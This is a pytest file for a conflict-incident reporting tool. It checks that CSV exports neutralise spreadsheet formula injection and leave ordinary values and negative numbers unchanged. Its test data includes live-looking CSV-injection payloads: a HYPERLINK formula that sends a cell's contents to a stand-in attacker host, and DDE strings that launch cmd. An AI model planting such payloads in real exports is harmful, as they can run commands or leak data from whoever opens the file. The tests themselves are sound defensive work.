"""CSV exports never hand a spreadsheet a formula (issue 18, item 8: CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.test_report_fixtures import build_day
from trucewatch.report.cells import spreadsheet_safe
from trucewatch.report.exports import incident_rows, write_csv, write_export
from trucewatch.report.records import load_records

HOSTILE = {
    "actor1": '=HYPERLINK("http://attacker.example/?"&A1,"details")',
    "actor2": "+cmd|' /C calc'!A0",
    "location": "-2+3+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "\t=1+1",
    "notes": "\r=1+1",
}


@pytest.mark.parametrize("text", list(HOSTILE.values()))
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Aleppo", "Jaysh al-Islam", "", " =not first", -3, -36.2, 0])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_csv_export_quotes_formula_cells_and_keeps_negative_numbers(store):
    build_day(store)
    with store.engine.connect() as conn:
        rows = incident_rows(load_records(conn))
    # A bare CR inside a cell is written unquoted by Python's csv module (see docs/exports.md), so
    # the CR cell is checked in the bytes and the others by reading the file back.
    readable = {k: v for k, v in HOSTILE.items() if "\r" not in v}
    row = dict(rows[0]) | readable | {"longitude": -3.25, "fatalities": -1}
    out = io.BytesIO()
    write_export([row], "csv", out)
    header, cells = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    written = dict(zip(header, cells, strict=True))
    for column, text in readable.items():
        assert written[column] == "'" + text, column
    with_cr = io.BytesIO()
    write_export([dict(rows[0]) | {"notes": HOSTILE["notes"]}], "csv", with_cr)
    assert b",'\r=1+1," in with_cr.getvalue()
    # Numbers written as numbers are values, not formulas: a spreadsheet must still add them up.
    assert written["longitude"] == "-3.25"
    assert written["fatalities"] == "-1"
    # An ordinary export is unchanged: no cell of the constructed day gains a quote.
    plain = io.StringIO()
    write_csv(rows, plain)
    assert not any(
        cell.startswith("'") for line in csv.reader(io.StringIO(plain.getvalue())) for cell in line
    )
